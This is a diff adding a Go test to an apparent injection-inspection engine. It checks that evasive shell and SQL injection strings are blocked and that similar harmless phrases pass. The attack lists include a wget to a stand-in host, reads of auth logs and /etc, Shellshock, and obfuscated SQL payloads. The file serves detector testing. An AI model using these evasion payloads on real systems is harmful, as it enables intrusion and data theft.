@@ -1,0 +1,50 @@
+package inspect
+
+import "testing"
+
+// TestEvasionForms checks the shapes of shell and SQL injection that
+// need no well-known keyword pair: globs and empty expansions inside
+// command words, brace lists, aliases, batch IF, options after a
+// subcommand; comparisons of a literal with itself, comments closing a
+// quoted operand, JSON operators, T-SQL variables and casts. Each attack
+// has near misses beside it that must pass.
+func TestEvasionForms(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		class   Class
+		attacks []string
+		benign  []string
+	}{
+		{CmdI,
+			[]string{"head /[?]ar/lo[?]/syslog", "/usr/[b-c]in/sh", "/us[r]/bin/id", "/tmp/[x//]y", "who$()ami", "una``me -a", "ls<()", "{,uname,-a}", "{whoami,}",
+				"$x1$x2$x3", "() { :;}; echo x", "alias ll=rm", "q;alias -p x=id", ";\n.system id", "find / -perm -4000", "more /var/log/auth.log",
+				"x;w$!ho$!ami", "ansible localhost -m shell", "wget evil.example", "chef-client -z", "IF \"%a%\"==\"1\" del x.txt", "if x==y goto end",
+				"time; knife node list"},
+			[]string{"see /wiki/[draft] notes", "$uper$ecret$", "python requests.get example", "perl 5.36 release", "if a==b: print(x)",
+				"if (a==b) return x", "alias of the author", "find a good book", "more or less / give or take", "node v20.1 changelog",
+				"price $5 $10", "the cat sat on the mat"}},
+		{SQLi,
+			[]string{"x'^name--", "n' div id#", "k'or name notnull--", "' isnull --", "a' or--", "user'collate binary--", "7=7", "c,9=9", "5<=>5",
+				"'x'='x", "q' and name glob name;", "OR '{\"k\":1}' ->> '$.k' = 1", "'[3]' ? '3'", "\";select x", "' union(select", "\"drop t",
+				"declare @cmd varchar", "exec(@q)", "execute immediate 'x'", "case when 1 then 2", ") when 1 then", "values ('a', 'b')",
+				"alter table t add c int", "delete from t;--", "truncate t;--", "drop/*x*/t", "sel/**/ect", "name::text", "lo_import('/etc/x')"},
+			[]string{"I'm not sure --", "it's 5 - 2 --", "\"Union Station\" tickets", "'Select all' button", "Delete from cart", "page 2 = page 2",
+				"1 + 1 = 2", "v1.0=1.0", "a=1&b=1", "x==x", "in case when you arrive then call me", "std::string", "values (such as honesty)",
+				"11!=1"}},
+	}
+	for _, tt := range tests {
+		for _, a := range tt.attacks {
+			if v := inspectValue(t, e, a); v.Action != Block || !hasClass(v, tt.class) {
+				t.Errorf("%s: %q: got %v %+v, want block", tt.class, a, v.Action, v.Findings)
+			}
+		}
+		for _, b := range tt.benign {
+			if v := inspectValue(t, e, b); v.Action == Block {
+				t.Errorf("%s: %q: blocked %+v, want allowed", tt.class, b, v.Findings)
+			}
+		}
+	}
+}
